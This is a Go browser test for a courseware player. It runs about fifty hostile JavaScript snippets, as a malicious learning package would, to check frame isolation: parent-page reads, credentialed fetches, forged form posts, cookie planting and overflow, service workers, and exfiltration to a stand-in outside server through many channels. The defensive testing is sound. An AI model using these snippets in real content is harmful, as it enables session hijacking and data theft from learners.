package playerweb

import (
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"cadre/internal/i18n"
	"cadre/internal/id"
	"cadre/internal/player/courseware"
	"cadre/internal/player/playertest"
	"cadre/internal/web"
	"cadre/internal/web/webtest"
)

// outside is a stranger's server that hears what reaches it.
type outside struct {
	*httptest.Server
	mu    sync.Mutex
	heard []string
}

func stranger(t *testing.T) *outside {
	t.Helper()
	o := &outside{}
	o.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		o.mu.Lock()
		o.heard = append(o.heard, r.URL.Path)
		o.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Access-Control-Allow-Headers", "*")
		_, _ = w.Write([]byte("/* heard */"))
	}))
	t.Cleanup(o.Close)
	return o
}

func (o *outside) hears(path string) bool {
	o.mu.Lock()
	defer o.mu.Unlock()
	return slices.Contains(o.heard, path)
}

// attack is something that a hostile package tries. It evaluates to "got in" where
// it succeeded, or leaves a trace that reached looks for.
type attack struct {
	name string
	js   string
	// reached reports whether it left its trace; nil if js itself tells.
	reached func(s *siege) bool
	// residual names the modes in which it is known to succeed, and why: these stand
	// in docs/isolation.md.
	residual map[courseware.Mode]string
	// unlike names browsers in which something else is known than residual says.
	unlike map[browserName]map[courseware.Mode]string
}

// browserName says which browser an attack is made in.
type browserName string

const (
	inChromium browserName = "Chromium"
	inFirefox  browserName = "Firefox"
)

// known says why an attack succeeds in a browser and a mode; empty if it does not.
func (a attack) known(b browserName, m courseware.Mode) string {
	if other, ok := a.unlike[b]; ok {
		return other[m]
	}
	return a.residual[m]
}

// siege is what an attack is made on.
type siege struct {
	*theatre
	seat *seat
	out  *outside
}

const got = `"got in"`

// fetches is an attack by fetch: it got in if it can read what came.
func fetches(url, options string) string {
	return `fetch(` + url + `, ` + options + `).then(r => r.type === "opaque" ? "opaque" : r.text().then(t => r.ok && t ? ` + got + ` : r.status))`
}

func attacks() []attack {
	app := `APP`
	leak := func(path string) func(*siege) bool {
		return func(s *siege) bool { return s.out.hears(path) }
	}
	sharedOrigin := map[courseware.Mode]string{
		courseware.SecondListener: "packages share an origin, and with it what scripts keep in the browser",
	}
	return []attack{
		// The application, read.
		{name: "read the page around it", js: `top.document.body ? ` + got + ` : ""`},
		{name: "read the page around it by its frame", js: `parent.parent.document ? ` + got + ` : ""`},
		{name: "read the address of the page around it", js: `top.location.href ? ` + got + ` : ""`},
		{name: "read what the page around it keeps", js: `top.localStorage.length >= 0 ? ` + got + ` : ""`},
		{name: "read the log's store", js: `new Promise((y, n) => { const r = top.indexedDB.open("cadre-work"); r.onsuccess = () => y(` + got + `); r.onerror = () => n("no") })`},
		{name: "open a store of the same name", js: `new Promise((y, n) => { const r = indexedDB.open("cadre-work"); r.onupgradeneeded = () => y("empty"); r.onsuccess = () => y(r.result.objectStoreNames.length ? ` + got + ` : "empty"); r.onerror = () => n("no") })`},
		{name: "read the launch credential", js: `JSON.stringify([parent.seed, parent.opened, top.opened, window.name]).includes("credential") ? ` + got + ` : ""`},
		{name: "read a page by fetch", js: fetches(app+` + "/learn/hostile"`, `{credentials: "include"}`)},
		{name: "read a page without asking for more", js: fetches(app+` + "/learn/hostile"`, `{credentials: "include", mode: "no-cors"}`)},
		{name: "read a page by a synchronous request", js: `(() => { const x = new XMLHttpRequest(); x.open("GET", APP + "/learn/hostile", false); x.withCredentials = true; x.send(); return x.responseText ? ` + got + ` : "" })()`},
		{name: "read the API", js: fetches(app+` + "/api/v1/me"`, `{credentials: "include"}`)},
		{name: "load a page as a script", js: `new Promise((y, n) => { const s = document.createElement("script"); s.src = APP + "/assets/x.js"; s.onload = () => y(` + got + `); s.onerror = () => n("no"); document.head.append(s) })`},
		{name: "frame a page and read it", js: `new Promise(y => { const f = document.createElement("iframe"); f.src = APP + "/learn/hostile"; f.onload = () => { try { y(f.contentDocument.body.innerText.length > 200 ? ` + got + ` : "empty") } catch (e) { y("no") } }; setTimeout(() => y("no"), 1500); document.body.append(f) })`},

		// The application, written.
		{name: "post a form by fetch", js: fetches(app+` + "/act"`, `{method: "POST", credentials: "include", headers: {"Content-Type": "application/x-www-form-urlencoded"}, body: "x=1"}`), reached: acted},
		{name: "post a form by a form", js: `(() => { const f = document.createElement("form"); f.method = "post"; f.action = APP + "/act"; f.target = "_self"; document.body.append(f); f.submit(); return "sent" })()`, reached: acted},
		{name: "post a form by a beacon", js: `(navigator.sendBeacon(APP + "/act", new URLSearchParams("x=1")), "sent")`, reached: acted},
		{name: "begin a launch with a guess", js: fetches(app+` + "/launch-begin"`, `{method: "POST", body: '{"credential":"guess"}'}`)},
		{name: "open a launch once more with a guess", js: fetches(app+` + "/launch-again"`, `{method: "POST", body: '{"pass":"guess","op":"01900000-0000-7000-8000-0000000000aa"}'}`)},
		{name: "hand in a log with a guess", js: fetches(app+` + "/launch-log"`, `{method: "POST", body: '{"credential":"guess","now":1,"entries":[]}'}`)},
		{name: "speak to the frame as its launch", js: `(top.postMessage({cadre: 1, kind: "left"}, "*"), "sent")`, reached: func(s *siege) bool {
			return webtest.Ask[bool](s.seat.Tab, `location.pathname.endsWith("/learn/hostile")`)
		}},
		{name: "act by a picture", js: `new Promise(y => { const i = new Image(); i.onload = i.onerror = () => y("sent"); i.src = APP + "/act"; setTimeout(() => y("sent"), 800) })`, reached: acted},

		// Cookies.
		{name: "read her session's cookie", js: `document.cookie.includes("cadre") ? ` + got + ` : ""`},
		{name: "set her session's cookie", js: `(document.cookie = "__Host-Http-cadre=fixed; Secure; Path=/", "sent")`, reached: func(s *siege) bool { return strings.Contains(s.seat.Cookies(), "fixed") }},
		{name: "set a cookie for the application", js: `(document.cookie = "planted=1; Path=/", "sent")`, reached: func(s *siege) bool { return strings.Contains(s.seat.Cookies(), "planted") }, residual: map[courseware.Mode]string{
			courseware.SecondListener: "cookies know no ports: it can set one of another name, which Cadre never reads",
		}},

		// Staying, and getting out.
		{name: "register a service worker", js: `navigator.serviceWorker.register("worker.js").then(() => ` + got + `)`},
		{name: "register a service worker for all", js: `navigator.serviceWorker.register("worker.js", {scope: "/"}).then(() => ` + got + `)`},
		{name: "navigate the page around it", js: `(top.location = OUT + "/top", "sent")`, reached: leak("/top")},
		{name: "navigate the page around it by a link", js: `(() => { const a = document.createElement("a"); a.href = OUT + "/link"; a.target = "_top"; document.body.append(a); a.click(); return "sent" })()`, reached: leak("/link")},
		{name: "open a window", js: `window.open(OUT + "/popup") ? ` + got + ` : ""`, reached: leak("/popup")},
		{name: "open a window by a link", js: `(() => { const a = document.createElement("a"); a.href = OUT + "/popuplink"; a.target = "_blank"; document.body.append(a); a.click(); return "sent" })()`, reached: leak("/popuplink")},

		// Telling strangers.
		{name: "tell by fetch", js: fetches(`OUT + "/fetch"`, `{}`), reached: leak("/fetch")},
		{name: "tell by fetch without reading", js: fetches(`OUT + "/nocors"`, `{mode: "no-cors"}`), reached: leak("/nocors")},
		{name: "tell by a request", js: `(() => { const x = new XMLHttpRequest(); x.open("GET", OUT + "/xhr", false); x.send(); return ` + got + ` })()`, reached: leak("/xhr")},
		{name: "tell by a picture", js: `(new Image().src = OUT + "/image", "sent")`, reached: leak("/image")},
		{name: "tell by a style", js: `(() => { const s = document.createElement("style"); s.textContent = "body{background:url(" + OUT + "/style)}"; document.head.append(s); return "sent" })()`, reached: leak("/style")},
		{name: "tell by a style sheet", js: `(() => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = OUT + "/sheet"; document.head.append(l); return "sent" })()`, reached: leak("/sheet")},
		{name: "tell by a script", js: `(() => { const s = document.createElement("script"); s.src = OUT + "/script"; document.head.append(s); return "sent" })()`, reached: leak("/script")},
		{name: "tell by a prefetch", js: `(() => { const l = document.createElement("link"); l.rel = "prefetch"; l.href = OUT + "/prefetch"; document.head.append(l); return "sent" })()`, reached: leak("/prefetch")},
		{name: "tell by a form", js: `(() => { const f = document.createElement("form"); f.action = OUT + "/form"; f.target = "_self"; document.body.append(f); f.submit(); return "sent" })()`, reached: leak("/form")},
		{name: "tell by a beacon", js: `(navigator.sendBeacon(OUT + "/beacon", "x"), "sent")`, reached: leak("/beacon")},
		{name: "tell by a socket", js: `new Promise((y, n) => { const w = new WebSocket(OUT.replace("http", "ws") + "/socket"); w.onopen = () => y(` + got + `); w.onerror = () => n("no") })`, reached: leak("/socket")},
		{name: "tell by an event source", js: `(new EventSource(OUT + "/events"), "sent")`, reached: leak("/events")},
		{name: "tell by a frame", js: `(() => { const f = document.createElement("iframe"); f.src = OUT + "/frame"; document.body.append(f); return "sent" })()`, reached: leak("/frame")},
		{name: "tell by an object", js: `(() => { const o = document.createElement("object"); o.data = OUT + "/object"; document.body.append(o); return "sent" })()`, reached: leak("/object")},
		{name: "tell by a film", js: `(() => { const v = document.createElement("video"); v.src = OUT + "/film"; document.body.append(v); v.load(); return "sent" })()`, reached: leak("/film")},
		{name: "tell by a font", js: `new FontFace("x", "url(" + OUT + "/font)").load().then(() => ` + got + `)`, reached: leak("/font")},
		{name: "tell by a worker", js: `(() => { const b = new Blob(["fetch('" + OUT + "/worker')"], {type: "text/javascript"}); new Worker(URL.createObjectURL(b)); return "sent" })()`, reached: leak("/worker")},
		{name: "tell by a module", js: `import(OUT + "/module").then(() => ` + got + `)`, reached: leak("/module")},
		{name: "tell by a frame without a policy of its own", js: `(() => { const f = document.createElement("iframe"); f.srcdoc = "<img src='" + OUT + "/srcdoc'>"; document.body.append(f); return "sent" })()`, reached: leak("/srcdoc")},
		{name: "tell by leaving", js: `(setTimeout(() => { location = OUT + "/leaving" }, 0), "sent")`, reached: leak("/leaving")},

		// Others' packages and data.
		{name: "read another package's file", js: fetches(`OTHER`, `{}`)},
		{name: "load another package's script", js: `new Promise((y, n) => { const s = document.createElement("script"); s.src = OTHER.replace("intro.html", "plain.js"); s.onload = () => y(` + got + `); s.onerror = () => n("no"); document.head.append(s) })`},
		{name: "read what another package keeps in the browser", js: `localStorage.getItem("another's") ? ` + got + ` : ""`, residual: sharedOrigin},
		{name: "guess another's path", js: fetches(`location.href.replace(/\/p\/[a-z2-7]+/, "/p/" + "a".repeat(32))`, `{}`)},
		{name: "climb out of its path", js: fetches(`location.href.replace(/\/p\/.*/, "/p/x/../../sign-in")`, `{}`)},

		// Last, since it ends her session where it succeeds.
		{
			name: "push her session's cookie out", js: `(() => { for (let i = 0; i < 600; i++) document.cookie = "c" + i + "=" + "x".repeat(20) + "; Secure; Path=/"; return "sent" })()`,
			reached: func(s *siege) bool { return !strings.Contains(s.seat.Cookies(), web.Cookie) },
			residual: map[courseware.Mode]string{
				courseware.SecondListener: "cookies know no ports: too many of them push others out, and she is signed out",
			},
		},
	}
}

// acted reports whether the application did something that she did not ask for.
func acted(s *siege) bool { return s.acts.Load() > 0 }

// Packages written to do harm try, in each mode, what packages have tried: each
// attempt is shown to fail, or stands as residual where it is known not to.
func TestAHostilePackage(t *testing.T) {
	if n := len(attacks()); n < 30 {
		t.Fatalf("only %d attempts", n)
	}
	chromium := webtest.Launch(t)
	for _, mode := range courseware.Modes() {
		t.Run(string(mode), func(t *testing.T) { besiege(t, inChromium, chromium, mode) })
	}
}

// besiege makes every attack in a browser, in a mode.
func besiege(t *testing.T, which browserName, b browser, mode courseware.Mode) {
	t.Helper()
	th := openTheatre(t, mode)
	put := func(key string) id.Attempt {
		c, files := playertest.Scorm12(key)
		files["worker.js"], files["plain.js"] = "self.addEventListener('fetch', () => {})", "var plain = 1"
		th.shelf.Put(c, files)
		return th.begin(key)
	}
	hostile, another := put("hostile"), put("another")
	token := th.sessions.Add(learner(), i18n.Prefs{Lang: "en"})

	// She has worked in another package before, in the same browser.
	s := th.seat(b, another, webtest.Look{Token: token})
	s.alive("/intro.html")
	s.do(`localStorage.setItem("another's", "1")`)
	other := s.do(`location.href`)
	s.Press("#play-exit")
	s.Open(playPath(hostile))
	s.alive("/intro.html")

	out := stranger(t)
	si := &siege{theatre: th, seat: s, out: out}
	for _, a := range attacks() {
		js := strings.NewReplacer("APP", `"`+th.url+`"`, "OUT", `"`+out.URL+`"`, "OTHER", `"`+other+`"`, "ATTEMPT", string(hostile)).Replace(a.js)
		answer := s.do(`Promise.race([(async () => ` + js + `)(), new Promise(y => setTimeout(() => y("nothing came"), 1500))])`)
		won := answer == "got in"
		why := a.known(which, mode)
		if a.reached != nil && !won {
			time.Sleep(150 * time.Millisecond) // a request that gets out needs a moment to arrive
			for end := time.Now().Add(patience); ; time.Sleep(20 * time.Millisecond) {
				if won = a.reached(si); won || why == "" || time.Now().After(end) {
					break
				}
			}
		}
		switch {
		case won && why == "":
			t.Errorf("%s: it got in (%s)", a.name, answer)
		case !won && why != "":
			t.Errorf("%s: named as residual (%s), and it failed (%s)", a.name, why, answer)
		case answer == "no answer":
			t.Errorf("%s: the unit is gone", a.name)
		}
		// Whatever it did, the page around it stands, and the unit is opened anew
		// where it was led astray.
		if path := webtest.Ask[string](s.Tab, `location.pathname`); path != playPath(hostile) {
			t.Errorf("%s: the page around it is now %s", a.name, path)
		}
		if s.within(3*time.Second, `location.pathname.endsWith("/intro.html")`) != "true" {
			s.Open(playPath(hostile))
			s.alive("/intro.html")
		}
	}
	// Nor has anything come late.
	for _, a := range attacks() {
		if a.reached != nil && a.known(which, mode) == "" && a.reached(si) {
			t.Errorf("%s: in the end it got in", a.name)
		}
	}
}
